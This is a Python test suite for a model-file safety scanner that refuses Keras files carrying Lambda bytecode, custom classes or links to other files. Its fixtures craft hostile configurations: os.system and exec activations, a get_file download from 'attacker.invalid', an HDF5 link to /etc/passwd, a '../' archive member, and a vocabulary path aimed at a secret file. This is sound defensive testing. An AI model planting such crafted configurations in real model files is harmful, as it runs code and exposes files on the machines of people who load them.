"""The unsafe-content scan, and every loading command refusing what it finds before Keras runs."""

from __future__ import annotations

import zipfile
from pathlib import Path

import h5py
import numpy as np
import pytest
from click.testing import CliRunner
from conftest import run_cli
from filesupport import keras2_files, marker_model, rewrite_h5_config, rewrite_keras_config

from fusecli.cli import cli
from fusecli.errors import UnsafeModelError, VerificationError
from fusecli.formats.modelfile import read_model_file
from fusecli.safety.loading import load_model
from fusecli.safety.scan import Finding, refuse_unsafe, scan

BYTECODE = "is a Lambda layer with Python bytecode, which would run when loaded"
REFUSING = "; refusing (use --trust to load it anyway)"


@pytest.fixture(scope="session")
def made(tmp_path_factory, keras, model_files) -> dict[str, Path]:
    """Keras 3 files with (and without) code in them; `marker` is the Lambdas' witness file."""
    d = tmp_path_factory.mktemp("unsafe")
    files: dict[str, Path] = {"marker": d / "lambda_ran"}

    model = marker_model(keras, files["marker"], nested=True)
    for suffix in (".keras", ".h5"):
        files[f"nested{suffix}"] = d / f"nested{suffix}"
        model.save(files[f"nested{suffix}"])

    @keras.saving.register_keras_serializable("MyPkg")
    class Registered(keras.layers.Layer):
        def call(self, t):
            return t

    class Plain(keras.layers.Layer):
        def call(self, t):
            return t

    x = keras.Input((4,), name="x")
    h = Registered(name="registered")(x)
    h = Plain(name="plain")(h)
    keras.Model(x, keras.layers.Dense(2, name="dense")(h), name="custom").save(d / "custom.keras")
    files["custom"] = d / "custom.keras"

    # A Lambda over a Keras function is not bytecode: allowed.
    x = keras.Input((4,), name="x")
    h = keras.layers.Lambda(keras.activations.relu, name="relu")(x)
    keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)], name="inner_seq")
    safe = keras.Model(x, keras.layers.Dense(2, name="dense")(h), name="safe")
    safe.save(d / "keras_fn_lambda.keras")
    files["keras_fn_lambda"] = d / "keras_fn_lambda.keras"
    files["marker"].unlink()  # building the models ran the Lambda once
    return files


def _paths(findings: list[Finding]) -> list[tuple[str, str]]:
    return [(f.path, f.class_name) for f in findings]


# -- what the scan finds ---------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".keras", ".h5"])
def test_scan_finds_lambda_inside_nested_model(made, suffix):
    findings = scan(made[f"nested{suffix}"])
    assert findings == [Finding("outer/inner/lam", "Lambda", BYTECODE)]
    assert findings[0].describe() == f"layer 'outer/inner/lam' {BYTECODE}"


@pytest.mark.parametrize("suffix", [".keras", ".h5"])
def test_scan_finds_lambdas_in_sequentials_and_wrappers(tmp_path, keras, suffix):
    inner = keras.Sequential(
        [keras.Input((3, 4)), keras.layers.Lambda(lambda t: t + 1, name="lam")], name="inner_seq"
    )
    wrapped = keras.layers.TimeDistributed(
        keras.layers.Lambda(lambda t: t * 2, name="tlam"), name="td"
    )
    outer = keras.Sequential([keras.Input((3, 4)), inner, wrapped], name="outer_seq")
    outer.save(tmp_path / f"seq{suffix}")
    assert _paths(scan(tmp_path / f"seq{suffix}")) == [
        ("outer_seq/inner_seq/lam", "Lambda"),
        ("outer_seq/td/tlam", "Lambda"),
    ]


def test_plain_models_have_no_findings(model_files, made):
    for path in (model_files["a"], model_files["a_h5"], made["keras_fn_lambda"]):
        assert scan(path) == []


def test_scan_finds_custom_classes(made):
    assert scan(made["custom"]) == [
        Finding(
            "custom/registered",
            "Registered",
            "uses 'MyPkg>Registered', a custom object registered outside Keras, whose code "
            "would be imported and run",
        ),
        Finding(
            "custom/plain",
            "Plain",
            "uses 'Plain' from module 'test_safety', outside Keras, whose code would be "
            "imported and run",
        ),
    ]


@pytest.mark.slow
def test_scan_finds_keras2_lambda_tfoplambda_and_custom_layer(tmp_path_factory):
    files = keras2_files(tmp_path_factory)
    assert _paths(scan(files["k2_unsafe"])) == [
        ("outer/inner/lam", "Lambda"),
        ("outer/inner/tf.math.l2_normalize", "TFOpLambda"),
        ("outer/mine", "MyPkg>MyLayer"),
    ]
    assert scan(files["k2_unsafe"])[0].reason == BYTECODE
    assert scan(files["k2_rnn"]) == scan(files["k2_seq"]) == scan(files["k2_rnn_keras"]) == []


def _replace_layer(name: str, **changes):
    def edit(config):
        for layer in config["config"]["layers"]:
            if layer["config"]["name"] == name:
                layer.update(changes)
        return config

    return edit


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        (
            {"class_name": "TFSMLayer"},
            "is a TFSMLayer, which loads and runs a TensorFlow SavedModel from disk",
        ),
        (
            {"class_name": "TorchModuleWrapper"},
            "is a TorchModuleWrapper, whose PyTorch module is a pickle that runs code when loaded",
        ),
        (
            {"module": "evil.layers"},
            "uses 'Dense' from module 'evil.layers', outside Keras, whose code would be imported "
            "and run",
        ),
    ],
)
def test_scan_finds_hostile_classes(tmp_path, model_files, changes, expected):
    path = rewrite_keras_config(
        model_files["a"], tmp_path / "hostile.keras", _replace_layer("dense", **changes)
    )
    assert [f.describe() for f in scan(path)] == [f"layer 'functional/dense' {expected}"]


@pytest.mark.parametrize(
    ("module", "name", "registered", "reason"),
    [
        ("os", "system", None, "uses 'system' from module 'os', outside Keras, whose code"),
        (
            "keras.utils",
            "get_file",
            None,
            "uses 'get_file' from module 'keras.utils', which is not modeling code",
        ),
        ("builtins", "exec", "MyPkg>f", "uses 'MyPkg>f', a custom object registered outside"),
        ("builtins", "exec", "function", "names Python's built-in function 'exec', not a Keras"),
    ],
)
def test_scan_finds_functions_outside_modeling_code(
    tmp_path, model_files, module, name, registered, reason
):
    def edit(config):
        dense = config["config"]["layers"][1]["config"]
        dense["activation"] = {
            "module": module,
            "class_name": "function",
            "config": name,
            "registered_name": registered,
        }
        return config

    path = rewrite_keras_config(model_files["a"], tmp_path / "fn.keras", edit)
    (finding,) = scan(path)
    assert (finding.path, finding.class_name) == ("functional/dense", "function")
    assert finding.reason.startswith(reason)


@pytest.mark.parametrize(
    ("module", "class_name", "reason"),
    [
        # Keras resolves any name in a module, so a "class" can be a function by another name.
        ("keras.utils", "get_file", "uses 'get_file' from module 'keras.utils', which is not"),
        ("keras", "get_file", "uses 'get_file' from module 'keras', which is not modeling code"),
        ("keras.src.saving", "SaveAs", "uses 'SaveAs' from module 'keras.src.saving', which is"),
    ],
)
def test_scan_finds_keras_objects_outside_modeling_code(
    tmp_path, model_files, module, class_name, reason
):
    def edit(config):
        config["config"]["layers"][1]["config"]["activation"] = {
            "module": module,
            "class_name": class_name,
            "config": {"fname": "x", "origin": "http://attacker.invalid/payload"},
            "registered_name": None,
        }
        return config

    path = rewrite_keras_config(model_files["a"], tmp_path / "obj.keras", edit)
    (finding,) = scan(path)
    assert (finding.path, finding.class_name) == ("functional/dense", class_name)
    assert finding.reason.startswith(reason)


def test_a_lookup_layer_reading_a_vocabulary_file_is_refused(tmp_path, keras):
    """StringLookup, IntegerLookup and TextVectorization read a string `vocabulary` as a path
    when loaded; a crafted file can point it at any file the user can read (whether Keras
    refuses it depends on its version and safe mode; tf-keras reads it)."""
    secret = tmp_path / "secret.txt"
    secret.write_text("alpha\nbeta\n")
    text = keras.Input((1,), dtype="string")
    lookup = keras.layers.StringLookup(vocabulary=["a", "b"], name="lookup")
    keras.Model(text, lookup(text), name="m").save(tmp_path / "lookup.keras")

    def edit(config):
        config["config"]["layers"][1]["config"]["vocabulary"] = str(secret)
        return config

    path = rewrite_keras_config(tmp_path / "lookup.keras", tmp_path / "vocab.keras", edit)
    expected = (
        f"layer 'm/lookup' reads its vocabulary from the file {str(secret)!r}, outside "
        "the model file (any file the loading user can read would become part of the model)"
    )
    assert [f.describe() for f in scan(path)] == [expected]
    with pytest.raises(UnsafeModelError) as caught:
        load_model(path)
    assert expected in str(caught.value)


def test_scan_finds_bytecode_hidden_outside_a_lambda(tmp_path, model_files, made):
    lam = read_model_file(made["nested.keras"]).config["config"]["layers"][1]["config"]["layers"]
    code = next(x for x in lam if x["class_name"] == "Lambda")["config"]["function"]

    def edit(config):
        config["config"]["layers"][1]["config"]["kernel_initializer"] = code
        return config

    path = rewrite_keras_config(model_files["a"], tmp_path / "hidden.keras", edit)
    assert [f.describe() for f in scan(path)] == [
        "layer 'functional/dense' holds Python bytecode in 'kernel_initializer', which would "
        "run when loaded"
    ]


def test_scan_finds_keras2_lambda_in_a_keras3_h5(tmp_path, model_files):
    def edit(config):
        config["config"]["layers"][1].update(
            class_name="Lambda",
            config={"name": "dense", "trainable": True, "function": ["4wEAAA==", None, None],
                    "function_type": "lambda", "module": "__main__"},
        )  # fmt: skip
        return config

    path = rewrite_h5_config(model_files["a_h5"], tmp_path / "k2lambda.h5", edit)
    root = read_model_file(path).config["config"]["name"]
    assert [f.describe() for f in scan(path)] == [f"layer '{root}/dense' {BYTECODE}"]


def test_scan_finds_hdf5_links_to_other_files(tmp_path, model_files):
    h5 = tmp_path / "linked.h5"
    h5.write_bytes(model_files["a_h5"].read_bytes())
    with h5py.File(h5, "r+") as f:
        f["model_weights/extra"] = h5py.ExternalLink("/etc/passwd", "/data")
        layout = h5py.VirtualLayout(shape=(2,), dtype="f4")
        layout[:] = h5py.VirtualSource("other.h5", "x", shape=(2,))
        f.create_virtual_dataset("model_weights/virtual", layout)
        f.create_dataset("model_weights/ext", shape=(4,), dtype="f4", external=[("raw.bin", 0, 16)])
    assert [f.describe() for f in scan(h5)] == [
        "HDF5 object '/model_weights/ext' keeps its data in other files ['raw.bin']",
        "HDF5 object '/model_weights/extra' is a link to '/data' in another file '/etc/passwd'",
        "HDF5 object '/model_weights/virtual' is a virtual dataset reading from ['other.h5']",
    ]


def test_scan_finds_links_in_keras_weights_and_escaping_members(tmp_path, model_files):
    weights = tmp_path / "w.h5"
    with zipfile.ZipFile(model_files["a"]) as z:
        weights.write_bytes(z.read("model.weights.h5"))
        members = {n: z.read(n) for n in z.namelist()}
    with h5py.File(weights, "r+") as f:
        f["layers/dense/vars/2"] = h5py.ExternalLink("secret.h5", "/x")
    members["model.weights.h5"] = weights.read_bytes()
    members["../outside.txt"] = b"x"
    path = tmp_path / "linked.keras"
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    assert [f.describe() for f in scan(path)] == [
        "archive member '../outside.txt' points outside the archive, where extracting it would "
        "write",
        "HDF5 object 'model.weights.h5:/layers/dense/vars/2' is a link to '/x' in another file "
        "'secret.h5'",
    ]


# -- refusing before Keras reads the file ----------------------------------------------------


@pytest.mark.parametrize("suffix", [".keras", ".h5"])
def test_load_model_refuses_and_trust_loads(made, suffix):
    path = made[f"nested{suffix}"]
    with pytest.raises(UnsafeModelError) as caught:
        load_model(path)
    assert str(caught.value) == f"{path}: layer 'outer/inner/lam' {BYTECODE}{REFUSING}"
    assert not made["marker"].exists()

    model = load_model(path, trust=True)  # the control: loading does run the Lambda's code
    assert made["marker"].exists()
    out = np.asarray(model(np.ones((1, 4), "float32")))
    np.testing.assert_allclose(out.sum(), 1.0, rtol=1e-6)
    made["marker"].unlink()


@pytest.mark.slow
def test_refusal_names_how_many_more(tmp_path_factory):
    path = keras2_files(tmp_path_factory)["k2_unsafe"]
    with pytest.raises(UnsafeModelError) as caught:
        refuse_unsafe(path)
    assert str(caught.value) == (
        f"{path}: layer 'outer/inner/lam' {BYTECODE} (and 2 more: see `fusecli inspect {path}`)"
        f"{REFUSING}"
    )
    assert refuse_unsafe(path, trust=True).keras_version == "2.21.0"


@pytest.mark.slow
def test_fuse_refuses_a_keras2_h5_with_a_nested_lambda(tmp_path_factory, model_files, tmp_path):
    path = keras2_files(tmp_path_factory)["k2_unsafe"]
    out = tmp_path / "out.keras"
    result = CliRunner().invoke(cli, ["fuse", str(model_files["a"]), str(path), "-o", str(out)])
    assert (result.exit_code, result.stdout) == (1, "")
    assert result.stderr == (
        f"Error: {path}: layer 'outer/inner/lam' {BYTECODE} (and 2 more: see `fusecli inspect "
        f"{path}`){REFUSING}\n"
    )
    assert not out.exists()


def test_fuse_refuses_nested_lambda_and_its_code_never_runs(made, model_files, tmp_path):
    """A real subprocess: nothing of the file's code runs, nothing is written."""
    out = tmp_path / "out.keras"
    result = run_cli("fuse", made["nested.h5"], model_files["a"], "-o", out)
    assert result.returncode == 1
    assert result.stdout == ""
    assert (
        result.stderr
        == f"Error: {made['nested.h5']}: layer 'outer/inner/lam' {BYTECODE}{REFUSING}\n"
    )
    assert not made["marker"].exists()
    assert not out.exists()


def test_fused_lambda_models_are_refused_at_every_depth(model_files, tmp_path):
    from fusecli.fusion.fuse import fuse_to_file

    lam = tmp_path / "lam.keras"
    fuse_to_file([model_files["a"], model_files["b"]], lam, scale="lambda")
    assert _paths(scan(lam)) == [("fused/a_scale", "Lambda"), ("fused/b_scale", "Lambda")]

    outer = tmp_path / "outer.keras"
    fuse_to_file([lam, model_files["c"]], outer, trust=True, verify=False)
    # Layers inside a branch are renamed <branch>_<name> (unique variable paths).
    assert _paths(scan(outer)) == [
        ("fused/lam/lam_a_scale", "Lambda"),
        ("fused/lam/lam_b_scale", "Lambda"),
    ]

    result = CliRunner().invoke(cli, ["fuse", str(outer), str(model_files["a"]), "-o",
                                      str(tmp_path / "again.keras")])  # fmt: skip
    assert result.exit_code == 1
    assert result.output.endswith(
        f"Error: {outer}: layer 'fused/lam/lam_a_scale' {BYTECODE} (and 1 more: see `fusecli "
        f"inspect {outer}`){REFUSING}\n"
    )
    assert not (tmp_path / "again.keras").exists()


# -- what a command writes is scanned before it is renamed into place ------------------------


def test_merge_scans_its_output_before_keeping_it(made, tmp_path, monkeypatch):
    """If the input scan ever missed something, the output scan still stops it: here the input
    scan is switched off, and merge copies a nested Lambda's bytecode into its output."""
    import fusecli.merging.merge as merging

    monkeypatch.setattr(merging, "refuse_findings", lambda path, findings, trust=False: None)
    out = tmp_path / "soup.keras"
    with pytest.raises(VerificationError) as caught:
        merging.merge([made["nested.keras"], made["nested.keras"]], out)
    assert str(caught.value) == (
        f"The written file would run code when loaded: layer 'outer/inner/lam' {BYTECODE}; it "
        "was not kept"
    )
    assert list(tmp_path.iterdir()) == []
    assert not made["marker"].exists()
    # With --trust the inputs may carry code on, and the output does.
    merging.merge([made["nested.keras"], made["nested.keras"]], out, trust=True)
    assert _paths(scan(out)) == [("outer/inner/lam", "Lambda")]
